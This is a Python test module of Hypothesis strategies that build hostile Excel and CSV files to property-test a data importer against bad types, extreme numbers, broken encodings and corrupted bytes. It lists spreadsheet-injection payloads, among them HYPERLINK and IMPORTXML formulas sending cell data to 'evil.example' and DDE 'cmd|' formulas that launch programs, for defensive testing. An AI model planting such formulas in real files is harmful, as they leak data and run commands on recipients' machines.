"""Hypothesis strategies for hostile files: what a careless or malicious person could send any
importer, built from a valid file by changes a property test can name.

- ``hostile_values``: cells of the wrong type (text in money, dates, booleans), numbers no column
  holds (``NaN``, ``inf``, ``1e400``, ``1e17``, too many decimals, negative), spreadsheet formulas
  (real formula cells, and text that a spreadsheet would run: ``=HYPERLINK(...)``, ``@SUM``,
  ``+cmd|...``), control characters, long text;
- ``workbooks(valid, targets)``: a valid workbook (a dict of sheets) changed by one to three of:
  a hostile value in a cell, a header column dropped, renamed, duplicated or added, the header
  row or a sheet removed or emptied, junk rows, a cell far away (``XFD1048576``), one long string
  shown in many cells; then perhaps damaged as bytes (cut short, bytes flipped, not a ZIP at all)
  or given the wrong name;
- ``csv_files(valid, targets)``: the same for CSV, plus wrong encodings (UTF-16, Latin-1 with a
  ``£``, invalid UTF-8, a byte-order mark, NUL bytes), broken quoting and line endings.

Each example is a ``Hostile``: the bytes, the name they are sent under, what was done (for the
failure message), and, when the change is one value in one data cell, that cell's sheet and row
(1-based, as the problems count them), which a refusal must name.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from functools import cached_property
from typing import Any

import xlsxwriter  # type: ignore[import-untyped]
from hypothesis import strategies as st

Sheets = dict[str, list[list[object]]]
Target = tuple[str, int, int]  # sheet, row and column (0-based) of a cell worth changing


@dataclass(frozen=True)
class Formula:
    """A real formula cell, with the value a reader that does not recalculate sees."""

    text: str
    cached: object = 0


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]  # the bytes are made when the test asks: writing is the slow part
    filename: str
    what: tuple[str, ...]
    cell: tuple[str, int] | None = None  # (sheet, 1-based row) of the one changed value

    @cached_property
    def content(self) -> bytes:
        return self.make()

    def __repr__(self) -> str:
        return f"Hostile({self.filename!r}, {len(self.content):,} bytes, {' + '.join(self.what)})"

    def _repr_pretty_(self, printer: Any, _cycle: bool) -> None:  # how hypothesis shows one
        printer.text(repr(self))


NUMBER_TEXT = (
    "NaN", "nan", "-nan", "sNaN", "inf", "-inf", "Infinity", "1e400", "-1e400", "1E+308", "1e17",
    "1e-400", "92233720368547758.08", "-92233720368547758.09", "10.005", "0.001", "-0.01", "-5",
    "1,2,3", "1.2.3", "£", "££5", "5 000", "1_000", "١٢٣", "½", "+5", "−5", "(5.00)", "0x1F",
    "  ", "", "TRUE", "#N/A", "#DIV/0!", "9" * 40, "0." + "0" * 30 + "1", "2147483648",
    "99999999999", "²", "①", "٣",
)  # fmt: skip
FORMULA_TEXT = (
    "=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
FORMULAS = (
    Formula("=1+1", 2),
    Formula('=HYPERLINK("http://evil.example/","Click")', "Click"),
    Formula("=SUM(A1:A3)", 0),
    Formula("=1/0", "#DIV/0!"),
    Formula('=cmd|" /C calc"!A0', 0),
    Formula("=NOW()", 45000.5),
    Formula('="10"&".005"', "10.005"),
)
TEXT_JUNK = ("\x00", "a\x00b", "\x01\x02", "\u202egnp.exe", "\ufeff", "\ud7ff", "<script>", "'")

# Values that are fine in some cells, so that changed files are sometimes imported and what an
# import stores can be checked too.
plausible_values: st.SearchStrategy[object] = st.one_of(
    st.decimals(min_value=0, max_value=10**6, places=2),
    st.integers(min_value=0, max_value=500),
    st.sampled_from(["0", "0.00", "1,250.00", "£99.99", "cash", "in_kind", "VRU", "2024-25", "1"]),
)
short_hostile_values: st.SearchStrategy[object] = st.one_of(
    plausible_values,
    st.sampled_from(NUMBER_TEXT),
    st.sampled_from(FORMULA_TEXT),
    st.sampled_from(FORMULAS),
    st.sampled_from(TEXT_JUNK),
    st.sampled_from(TEXT_JUNK),  # control characters reach the database only as text: twice
    st.decimals().map(str),
    st.floats(),
    st.integers(min_value=-(10**22), max_value=10**22),
    st.booleans(),
    st.dates(),
    st.datetimes(),
    st.times(),
    st.timedeltas(min_value=timedelta(0), max_value=timedelta(days=3000)),
    st.none(),
    st.text(max_size=40),
)
# One cell may hold up to 32,000 characters (Excel's own limit is 32,767); a junk row's cells
# are short, or 300 rows of 30 would be hundreds of megabytes.
hostile_values: st.SearchStrategy[object] = st.one_of(
    short_hostile_values,
    st.integers(min_value=0, max_value=32_000).map(lambda n: "x" * n),
)


# --- writing --------------------------------------------------------------------------------------


def write_workbook(
    sheets: Mapping[str, Sequence[Sequence[object]]], extra: Callable[[Any], None] | None = None
) -> bytes:
    """A workbook with each value written as its own kind of cell: numbers, booleans, dates,
    real formulas, and text that is never turned into anything else. ``NaN`` and infinities
    become error cells (no spreadsheet stores them as numbers). ``extra`` writes more to the
    first sheet."""
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(
        buffer,
        {
            "in_memory": True,
            "nan_inf_to_errors": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )
    workbook.set_properties({"created": datetime(2024, 4, 1)})  # the same bytes every time
    dated = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    hours = workbook.add_format({"num_format": "[h]:mm"})
    for name, rows in sheets.items():
        sheet = workbook.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                _write(sheet, r, c, value, dated, hours)
        if extra is not None and name == next(iter(sheets)):
            extra(sheet)
    workbook.close()
    return buffer.getvalue()


def _write(sheet: Any, r: int, c: int, value: object, dated: Any, hours: Any) -> None:
    if value is None:
        return
    if isinstance(value, Formula):
        sheet.write_formula(r, c, value.text, None, value.cached)
    elif isinstance(value, bool):
        sheet.write_boolean(r, c, value)
    elif isinstance(value, datetime | date | time):
        sheet.write_datetime(r, c, value, dated)
    elif isinstance(value, timedelta):
        sheet.write_number(r, c, value.total_seconds() / 86400, hours)
    elif isinstance(value, Decimal):
        sheet.write_number(r, c, float(value))
    elif isinstance(value, int | float):
        sheet.write_number(r, c, value)
    else:
        sheet.write_string(r, c, str(value))


def write_csv(rows: Sequence[Sequence[object]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


# --- changes to a table ---------------------------------------------------------------------------

Change = Callable[[Sheets], None]


@dataclass(frozen=True)
class Changed:
    name: str
    apply: Change
    cell: tuple[str, int] | None = None


def _copy(sheets: Mapping[str, Sequence[Sequence[object]]]) -> Sheets:
    return {name: [list(row) for row in rows] for name, rows in sheets.items()}


@st.composite
def _set_cell(draw: st.DrawFn, targets: Sequence[Target]) -> Changed:
    sheet, r, c = draw(st.sampled_from(targets))
    value = draw(hostile_values)

    def apply(sheets: Sheets) -> None:
        if sheet not in sheets or r >= len(sheets[sheet]):
            return  # an earlier change took the sheet or the row away
        row = sheets[sheet][r]
        row.extend([None] * (c + 1 - len(row)))
        row[c] = value

    return Changed(f"{sheet}!R{r + 1}C{c + 1} = {value!r:.60}", apply, cell=(sheet, r + 1))


@st.composite
def _header_change(draw: st.DrawFn, names: Sequence[str]) -> Changed:
    sheet = draw(st.sampled_from(names))
    how = draw(st.sampled_from(["drop", "rename", "duplicate", "add", "blank", "remove", "shift"]))
    column = draw(st.integers(min_value=0, max_value=30))
    junk = draw(st.one_of(st.sampled_from(FORMULA_TEXT), st.text(max_size=12)))

    def apply(sheets: Sheets) -> None:
        rows = sheets.get(sheet)
        if not rows:
            return
        width = max(len(rows[0]), 1)
        i = column % width
        if how == "drop":
            for row in rows:
                del row[i : i + 1]
        elif how == "rename":
            rows[0][i : i + 1] = [junk]
        elif how == "duplicate":
            for row in rows:
                row.insert(i, row[i] if i < len(row) else None)
        elif how == "add":
            for row in rows:
                row.insert(i, junk)
        elif how == "blank":
            rows[0] = [None] * len(rows[0])
        elif how == "remove":
            del rows[0]
        else:  # the table moved one column right
            for row in rows:
                row.insert(0, None)

    return Changed(f"{sheet} header: {how} column {column} ({junk!r:.20})", apply)


@st.composite
def _sheet_change(draw: st.DrawFn, names: Sequence[str]) -> Changed:
    sheet = draw(st.sampled_from(names))
    how = draw(st.sampled_from(["drop", "empty", "header only", "rename", "blank rows"]))

    def apply(sheets: Sheets) -> None:
        if how == "drop":
            sheets.pop(sheet, None)
        elif how == "empty":
            sheets[sheet] = []
        elif sheet not in sheets:
            return
        elif how == "header only":
            sheets[sheet] = sheets[sheet][:1]
        elif how == "rename":
            sheets[f"{sheet} (2)"[:31]] = sheets.pop(sheet)
        else:
            sheets[sheet][1:1] = [[None, "  "], [], [""]]

    return Changed(f"{sheet} sheet: {how}", apply)


@st.composite
def _junk_rows(draw: st.DrawFn, names: Sequence[str]) -> Changed:
    sheet = draw(st.sampled_from(names))
    count = draw(st.integers(min_value=1, max_value=300))
    values = draw(st.lists(short_hostile_values, min_size=1, max_size=6))
    width = draw(st.integers(min_value=1, max_value=30))

    def apply(sheets: Sheets) -> None:
        rows = sheets.setdefault(sheet, [])
        rows.extend([values[(n + c) % len(values)] for c in range(width)] for n in range(count))

    return Changed(f"{sheet}: {count} junk rows of {width}", apply)


def table_changes(valid: Mapping[str, Sequence[Sequence[object]]], targets: Sequence[Target]):  # type: ignore[no-untyped-def]
    names = sorted(valid)
    return st.one_of(
        _set_cell(targets),
        _set_cell(targets),  # the commonest mistake, drawn twice as often
        _header_change(names),
        _sheet_change(names),
        _junk_rows(names),
    )


def _changed(valid: Mapping[str, Sequence[Sequence[object]]], changes: list[Changed]) -> Sheets:
    sheets = _copy(valid)
    for change in changes:
        change.apply(sheets)
    return sheets


# --- whole files ----------------------------------------------------------------------------------


@st.composite
def _far_cell(draw: st.DrawFn) -> tuple[str, Callable[[Any], None]]:
    row = draw(st.integers(min_value=10_000, max_value=1_048_575))
    column = draw(st.integers(min_value=0, max_value=16_383))
    return f"a cell at row {row + 1}, column {column + 1}", lambda s: s.write(row, column, 1)


@st.composite
def _shared_text(draw: st.DrawFn) -> tuple[str, Callable[[Any], None]]:
    length = draw(st.integers(min_value=20_000, max_value=32_000))
    text = draw(st.text(alphabet="abcdef", min_size=8, max_size=8)) * (length // 8)

    def write(sheet: Any) -> None:
        for n in range(1000):
            sheet.write_string(5 + n // 10, n % 10, text)

    return f"a {len(text):,} character text shown in 1,000 cells", write


@st.composite
def _damage(draw: st.DrawFn) -> tuple[str, Callable[[bytes], bytes]]:
    """Damage to a file's bytes, drawn before the file is written: where, as a share of its
    length, so the same draw whatever the file's exact size."""
    how = draw(st.sampled_from(["cut", "flip", "prefix", "replace"] + ["none"] * 4))
    share = draw(st.integers(min_value=0, max_value=999))

    def at(content: bytes) -> int:
        return share * len(content) // 1000

    if how == "cut":
        return f"cut at {share / 10}%", lambda content: content[: at(content)]
    if how == "flip":
        return (
            f"a byte at {share / 10}% flipped",
            lambda content: (
                content[: at(content)]
                + bytes([content[at(content)] ^ 0xFF] if content else [0xFF])
                + content[at(content) + 1 :]
            ),
        )
    if how == "prefix":
        return "junk before it", lambda content: b"MZ\x90\x00" + content
    if how == "replace":
        other = draw(
            st.one_of(
                st.binary(max_size=200),
                st.sampled_from(
                    [
                        b"",
                        b"PK\x03\x04",
                        b"PK\x05\x06" + b"\x00" * 18,
                        b"%PDF-1.7\n",
                        b"recipient,indicator\nbristol,population\n",
                        "£1,000".encode("utf-16"),
                        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,  # an old .xls
                    ]
                ),
            )
        )
        return f"not a workbook: {other[:16]!r}", lambda _content: other
    return "", lambda content: content


@st.composite
def workbooks(
    draw: st.DrawFn,
    valid: Mapping[str, Sequence[Sequence[object]]],
    targets: Sequence[Target],
    filename: str,
) -> Hostile:
    """A hostile version of the valid workbook ``valid`` (see the module's docstring)."""
    changes = draw(st.lists(table_changes(valid, targets), min_size=1, max_size=3))
    sheets = _changed(valid, changes)
    what = [c.name for c in changes]
    extra = draw(st.one_of(st.none(), st.none(), st.none(), _far_cell(), _shared_text()))
    if extra is not None:
        what.append(extra[0])
    damage, damaged = draw(_damage())
    if damage:
        what.append(damage)
    name = draw(st.sampled_from([filename] * 12 + [filename.upper(), "file.xls", "file", "f.csv"]))
    if name != filename:
        what.append(f"named {name}")
    single = len(changes) == 1 and changes[0].cell is not None and len(what) == 1

    def make() -> bytes:
        return damaged(write_workbook(sheets or {"Sheet1": []}, extra[1] if extra else None))

    return Hostile(make, name, tuple(what), cell=changes[0].cell if single else None)


# --- CSV ------------------------------------------------------------------------------------------


def _as_text(value: object) -> str:
    if isinstance(value, Formula):
        return value.text
    return "" if value is None else str(value)


ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252")


@st.composite
def _csv_text_change(draw: st.DrawFn) -> tuple[str, Callable[[str], str]]:
    how = draw(
        st.sampled_from(
            ["unbalanced quote", "CR endings", "CRLF endings", "NUL", "blank lines", "101 columns"]
        )
    )
    if how == "unbalanced quote":
        return how, lambda text: text.replace(",", ',"', 1)
    if how == "CR endings":
        return how, lambda text: text.replace("\n", "\r")
    if how == "CRLF endings":
        return how, lambda text: text.replace("\n", "\r\n")
    if how == "NUL":
        return how, lambda text: text.replace(",", ",\x00", 2)
    if how == "blank lines":
        return how, lambda text: text.replace("\n", "\n\n  \n", 3)
    return how, lambda text: text + ",".join(["x"] * 101) + "\n"


@st.composite
def csv_files(
    draw: st.DrawFn,
    valid: Sequence[Sequence[object]],
    targets: Sequence[tuple[int, int]],
    filename: str,
) -> Hostile:
    """A hostile version of the valid CSV rows ``valid`` (see the module's docstring)."""
    sheet_targets = [("csv", r, c) for r, c in targets]
    changes = draw(st.lists(table_changes({"csv": valid}, sheet_targets), min_size=1, max_size=3))
    rows = _changed({"csv": valid}, changes).get("csv", [])
    what = [c.name for c in changes]
    text = write_csv([[_as_text(v) for v in row] for row in rows])
    text_change = draw(st.one_of(st.none(), st.none(), _csv_text_change()))
    if text_change is not None:
        what.append(text_change[0])
        text = text_change[1](text)
    if draw(st.booleans()):
        text = text.replace("ONS", "£ ONS “mid-year”")
        what.append("a £ and curly quotes")
    encoding = draw(st.sampled_from(("utf-8",) * 8 + ENCODINGS))
    content = text.encode(encoding, errors="replace")
    if encoding != "utf-8":
        what.append(f"encoded {encoding}")
    if draw(st.integers(min_value=0, max_value=7)) == 0:
        content = content[: len(content) // 2] + b"\xc3\x28\xff\xfe" + content[len(content) // 2 :]
        what.append("invalid UTF-8 in the middle")
    name = draw(st.sampled_from([filename] * 12 + [filename.upper(), "f.xlsx", "f.txt", "f"]))
    if name != filename:
        what.append(f"named {name}")
    single = len(changes) == 1 and changes[0].cell is not None and len(what) == 1
    return Hostile(lambda: content, name, tuple(what), cell=changes[0].cell if single else None)
